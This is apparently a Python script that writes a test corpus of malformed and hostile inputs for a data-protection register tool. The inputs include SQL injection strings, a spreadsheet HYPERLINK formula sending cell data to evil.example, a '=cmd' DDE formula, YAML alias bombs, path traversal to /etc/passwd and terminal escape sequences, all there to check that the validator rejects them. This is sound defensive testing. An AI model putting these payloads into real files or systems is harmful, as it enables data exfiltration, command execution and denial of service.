"""Writes the hostile input corpus in tests/data/bad/ (the files are
committed; this says how each was made). Run from anywhere:

    python3 tests/corpus/make_corpus.py

Each file breaks one thing in an otherwise valid input; check_corpus.py
expects each to be refused with exit 3 at the place listed in expect.tsv.
"""
import json
import pathlib

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
out = ROOT / "tests/data/bad"
# A small valid register: each register-* file is it with one defect.
base = """version: 1
controller:
  name: Example SAS
  contact: contact@example.org
  authority: CNIL
  country: FR
  timezone: Europe/Paris
  language: en
  reviewed: 2026-09-30
data_categories:
  - { id: contact, label: Contact details }
purposes:
  - id: newsletter
    label: Newsletter
    consent: required
    validity: P3Y
    proof: P5Y
processors:
  - id: mailer
    name: Mailer SAS
    country: FR
    services: [email]
    dpa:
      signed: 2023-06-15
      clauses: [instructions, confidentiality, security, subprocessors, assistance, breach-notice, deletion, audits]
activities:
  - id: newsletter
    name: Newsletter
    purposes: [newsletter]
    legal_basis: consent
    subjects: [prospects]
    data: [contact]
    recipients: [marketing]
    processors: [mailer]
    transfers: []
    security: [access-control]
    source: data-subject
    dpia: not-required
    retention:
      - { data: [contact], keep: P3Y, from: last-contact, action: delete, basis: "CNIL prospecting guidance" }
"""
files = {}
def reg(name, text): files["register-" + name + ".yaml"] = text
def sub(line, old, new, count=1):
    assert old in line, old
    return line.replace(old, new, count)

reg("unclosed-flow", sub(base, "{ id: contact, label: Contact details }", "{ id: contact, label: Contact details"))
reg("tab-indent", sub(base, "  name: Example SAS", "\tname: Example SAS"))
reg("validity-is-a-list", sub(base, "validity: P3Y", "validity: [P3Y]"))
reg("unknown-key", sub(base, "    dpia: not-required", "    dpia: not-required\n    retention_period: P3Y"))
reg("dangling-purpose", sub(base, "purposes: [newsletter]", "purposes: [newsleter]"))
reg("dangling-processor", sub(base, "processors: [mailer]", "processors: [mailer, crm-host]"))
reg("bad-duration", sub(base, "keep: P3Y", "keep: P3X"))
reg("duration-negative", sub(base, "keep: P3Y", "keep: -P3Y"))
reg("impossible-date", sub(base, "reviewed: 2026-09-30", "reviewed: 2026-02-30"))
reg("date-is-a-time", sub(base, "signed: 2023-06-15", "signed: 2023-06-15T25:00:00"))
reg("duplicate-category", sub(base, "  - { id: contact, label: Contact details }", "  - { id: contact, label: Contact details }\n  - { id: contact, label: Email }"))
reg("duplicate-mapping-key", sub(base, "  name: Example SAS", "  name: Example SAS\n  name: Other SAS"))
reg("bad-timezone", sub(base, "timezone: Europe/Paris", "timezone: Europe/Pariss"))
reg("unknown-country", sub(base, "    country: FR\n    services", "    country: XX\n    services"))
reg("sql-in-id", sub(base, "  - id: newsletter\n    name: Newsletter", "  - id: \"x'); DROP TABLE subject; --\"\n    name: Newsletter"))
reg("top-level-list", "- version: 1\n- controller: {}\n")
reg("empty", "")
reg("only-comments", "# nothing but a comment\n")
reg("version-2", sub(base, "version: 1", "version: 2"))
lol = "version: 1\nx-lol0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
for i in range(1, 10):
    lol += f"x-lol{i}: &a{i} [" + ", ".join([f"*a{i-1}"] * 9) + "]\n"
reg("billion-laughs", lol + base.split("\n", 1)[1])
bomb_in_field = base.replace("  - { id: contact, label: Contact details }",
    "  - { id: contact, label: Contact details }\nx: &b0 [a, a, a, a, a, a, a, a]\n" +
    "".join(f"x{i}: &b{i} [" + ", ".join([f"*b{i-1}"] * 8) + "]\n" for i in range(1, 8)))
reg("alias-bomb-in-list", sub(base, "security: [access-control]", "security: &s [access-control, *s]"))
reg("deep-nesting", sub(base, "recipients: [marketing]", "recipients: " + "[" * 5000 + "]" * 5000))
files["register-non-utf8.yaml"] = sub(base, "label: Newsletter\n", "label: Lettre d'information \xe9t\xe9\n").encode("latin-1")
files["register-nul-byte.yaml"] = sub(base, "name: Mailer SAS", "name: Mailer\x00SAS").encode()
reg("escaped-control-character", sub(base, "label: Newsletter\n", "label: \"News\\e[31mletter\"\n"))
reg("anchor-on-wrong-type", sub(base, "data: [contact]", "data: &d {contact: 1}"))
reg("second-document", base + "---\nversion: 1\n")
reg("after-end-marker", base + "...\nversion: 1\n")
reg("machine-time-zone", sub(base, "timezone: Europe/Paris", "timezone: localtime"))
# Personal data where an id or a key belongs: refused without being echoed.
reg("name-as-purpose-id", sub(base, "    proof: P5Y\n", "    proof: P5Y\n  - { id: Louise Morel, label: Louise }\n"))
reg("bidi-in-purpose-id", sub(base, "    proof: P5Y\n", "    proof: P5Y\n  - { id: \"news\u202eletter\", label: News }\n"))
reg("name-as-key", sub(base, "  name: Example SAS", "  name: Example SAS\n  Louise Morel: 1 rue de la Paix"))
reg("name-as-country", sub(base, "    country: FR\n    services", "    country: Louise Morel\n    services"))
# C. trav. L6323-8-1 bans canvassing: a purpose that is not marketing cannot be CPF canvassing.
reg("cpf-eligible-not-marketing", sub(base, "    proof: P5Y\n", "    proof: P5Y\n    cpf_eligible: true\n"))

# Subjects, JSON Lines and CSV.
ok = {"key": "S-1", "identifiers": {"email": "s1@mail.example"}, "holdings": [
    {"activity": "newsletter", "data": "contact", "system": "mailer", "collected": "2025-01-02", "value": "s1@mail.example"}]}
def sj(name, lines): files["subjects-" + name + ".jsonl"] = "".join(l + "\n" for l in lines)
good = json.dumps(ok)
def alt(**kw):
    d = json.loads(good)
    for k, v in kw.items():
        d[k] = v
    return json.dumps(d)
sj("truncated-line", [good, good[:40]])
sj("holdings-is-a-string", [alt(holdings="all of them")])
sj("unknown-key", [alt(emial="s1@mail.example")])
sj("dangling-activity", [good.replace('"activity": "newsletter"', '"activity": "newsletters"')])
sj("sql-in-activity", [good.replace('"activity": "newsletter"', '"activity": "newsletter\'); DROP TABLE holding; --"')])
sj("impossible-date", [good.replace("2025-01-02", "2025-13-01")])
sj("identifier-claimed-twice", [good, json.dumps({"key": "S-2", "identifiers": {"email": "S1@mail.example "}})])
sj("deep-nesting", [good, '{"key": "S-3", "holdings": ' + "[" * 5000 + "]" * 5000 + "}"])
sj("duplicate-json-key", ['{"key": "S-1", "key": "S-2"}'])
sj("key-not-string", ['{"key": 12}'])
sj("no-key", ['{"identifiers": {"email": "s9@mail.example"}}'])
sj("not-an-object", ['["S-1"]'])
sj("number-overflow", [good.replace('"holdings"', '"x": 1e99999, "holdings"')])
files["subjects-bom.jsonl"] = ("\ufeff" + good + "\n").encode()
files["subjects-non-utf8.jsonl"] = (good.replace("s1@mail", "s\xe9@mail") + "\n").encode("latin-1")
files["subjects-lone-surrogate.jsonl"] = good.replace('"S-1"', '"S-\\ud800"') + "\n"
files["subjects-nul-byte.jsonl"] = (good + "\n").replace("S-1", "S\x001").encode()
files["subjects-missing-key-column.csv"] = "email,activity,data,system,collected,value\ns1@mail.example,newsletter,contact,mailer,2025-01-02,x\n"
files["subjects-unterminated-quote.csv"] = "key,email,activity,data,system,collected,value\nS-1,s1@mail.example,newsletter,contact,mailer,2025-01-02,\"unterminated\n"
files["subjects-extra-field.csv"] = "key,email,activity,data,system,collected,value\nS-1,s1@mail.example,newsletter,contact,mailer,2025-01-02,x,surplus\n"
files["subjects-formula-activity.csv"] = "key,email,activity,data,system,collected,value\nS-1,s1@mail.example,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",contact,mailer,2025-01-02,x\n"
files["subjects-unknown-column.csv"] = "key,emial,activity,data,system,collected,value\nS-1,s1@mail.example,newsletter,contact,mailer,2025-01-02,x\n"

sj("zero-width-in-key", [good.replace('"S-1"', '"S-\\u200b1"')])
sj("bidi-control-in-key", [good.replace('"S-1"', '"S-\\u202e1"')])
sj("c1-control-in-key", [good.replace('"S-1"', '"S-\\u00851"')])
sj("soft-hyphen-in-key", [good.replace('"S-1"', '"S-\\u00ad1"')])
sj("tag-character-in-key", [good.replace('"S-1"', '"S-1\\udb40\\udc41"')])
sj("hangul-filler-in-key", [good.replace('"S-1"', '"S-\\u31641"')])
sj("invisible-times-in-key", [good.replace('"S-1"', '"S-\\u20621"')])
sj("mongolian-vowel-separator-in-key", [good.replace('"S-1"', '"S-\\u180e1"')])
sj("phone-of-only-plus", [alt(identifiers={"email": "s1@mail.example", "phone": "+"})])
sj("name-in-activity", [good.replace('"activity": "newsletter"', '"activity": "Louise Morel"')])
sj("name-as-identifier-kind", [alt(identifiers={"email": "s1@mail.example", "Louise Morel": "x"})])
sj("name-as-key", [alt(**{"Louise Morel": "x"})])
files["subjects-name-as-column.csv"] = "key,Louise Morel,activity,data,system,collected,value\nS-1,s1@mail.example,newsletter,contact,mailer,2025-01-02,x\n"
sj("bad-birth-date-is-a-name", [alt(birth_date="Louise Morel")])
files["subjects-terminal-escape.jsonl"] = good.replace('"activity": "newsletter"', '"activity": "news\\u001b]0;owned\\u0007\\u001b[2J"') + "\n"
files["subjects-control-in-identifier.csv"] = "key,email,activity,data,system,collected,value\nS-1,s1@mail.example\x08\x08\x08,newsletter,contact,mailer,2025-01-02,x\n"

# Consents.
c = {"subject": "L-2023-001", "purpose": "newsletter", "action": "given", "at": "2025-09-05T10:00:00+02:00", "channel": "web-form",
     "notice": {"version": "newsletter-v1", "sha256": "b63da56f312a391ee97339c05a466bb98b6188d090ce26df2517ecc3e66b3028"},
     "evidence": "form:newsletter/1", "recorded_by": "website"}
cg = json.dumps(c)
def cj(name, lines): files["consents-" + name + ".jsonl"] = "".join(l + "\n" for l in lines)
def calt(**kw):
    d = json.loads(cg)
    for k, v in kw.items():
        d[k] = v
    return json.dumps(d)
cj("truncated-line", [cg, cg[:-5]])
cj("unknown-purpose", [cg, calt(purpose="newsleter")])
cj("bad-action", [calt(action="maybe")])
cj("not-a-leap-year", [calt(at="2025-02-29T10:00:00+01:00")])
cj("time-without-offset", [calt(at="2025-09-05 10:00")])
cj("short-sha256", [calt(notice={"version": "newsletter-v1", "sha256": "b63da56f"})])
cj("unknown-subject", [calt(subject="NOBODY-1")])
cj("scope-duration", [calt(scope={"duration": "forever"})])
cj("at-is-a-number", [calt(at=1700000000)])
cj("huge-integer-version", [calt(notice={"version": 123456789012345678901234567890, "sha256": c["notice"]["sha256"]})])
cj("dated-in-the-future", [calt(at="2099-01-01T10:00:00+01:00")])
cj("name-as-key", [calt(**{"Louise Morel": "x"})])
cj("name-as-notice-key", [calt(notice={"version": "newsletter-v1", "sha256": c["notice"]["sha256"], "Louise Morel": 1})])
files["consents-bom.jsonl"] = ("\ufeff" + cg + "\n").encode()
files["consents-formula-purpose.csv"] = ("subject,purpose,action,at,channel,notice_version,notice_sha256,evidence,recorded_by\n"
    "L-2023-001,=cmd|' /C calc'!A0,given,2025-09-05T10:00:00+02:00,web-form,newsletter-v1," + c["notice"]["sha256"] + ",form:1,website\n")
files["consents-missing-column.csv"] = "subject,purpose,at\nL-2023-001,newsletter,2025-09-05T10:00:00+02:00\n"

# Incidents.
inc = open(ROOT / "examples/training-org/incidents/laptop-theft.yaml").read().split("\n", 1)[1]
def ic(name, text): files["incident-" + name + ".yaml"] = text
ic("unclosed-quote", sub(inc, "title: Trainer laptop stolen from a car", "title: \"Trainer laptop stolen from a car"))
ic("aware-at-not-a-time", sub(inc, "aware_at: 2026-05-29T16:00:00+02:00", "aware_at: yesterday afternoon"))
ic("occurred-after-aware", sub(inc, "occurred_at: 2026-05-28T20:00:00+02:00", "occurred_at: 2026-05-30T20:00:00+02:00"))
ic("unknown-activity", sub(inc, "activities: [training-delivery, funding-management]", "activities: [training-delivery, payroll]"))
ic("unknown-nature", sub(inc, "nature: [confidentiality]", "nature: [leak]"))
ic("id-path-traversal", sub(inc, "id: BR-2026-004", "id: ../../../etc/BR-1"))
ic("alias-bomb", sub(inc, "measures_planned:", "x0: &m0 [a, a, a, a, a, a, a, a, a]\n" + "".join(
    f"x{i}: &m{i} [" + ", ".join([f"*m{i-1}"] * 9) + "]\n" for i in range(1, 9)) + "measures_planned: *m8\nx_planned:"))
ic("unknown-key", sub(inc, "cause: theft", "cause: theft\nseverity: high"))
ic("year-10000", sub(inc, "aware_at: 2026-05-29T16:00:00+02:00", "aware_at: 9999-12-31T23:00:00-02:00"))
ic("context-wrong-type", sub(inc, "  encryption: none", "  encryption: [none, weak]"))
ic("name-as-id", sub(inc, "id: BR-2026-004", "id: Louise Morel"))
ic("name-in-activities", sub(inc, "activities: [training-delivery, funding-management]", "activities: [training-delivery, Louise Morel]"))
ic("name-as-key", sub(inc, "cause: theft", "cause: theft\nLouise Morel: victim"))

# Batch lists for dpo sar export --batch.
files["batch-path-traversal.txt"] = "L-2023-001\n../../../../tmp/owned\n"
files["batch-absolute-path.txt"] = "/etc/passwd\n"
files["batch-non-utf8.txt"] = "L-2023-001\nL-2023-\xff01\n".encode("latin-1")

for name, body in files.items():
    data = body if isinstance(body, bytes) else body.encode()
    (out / name).write_bytes(data)
print(len(files))
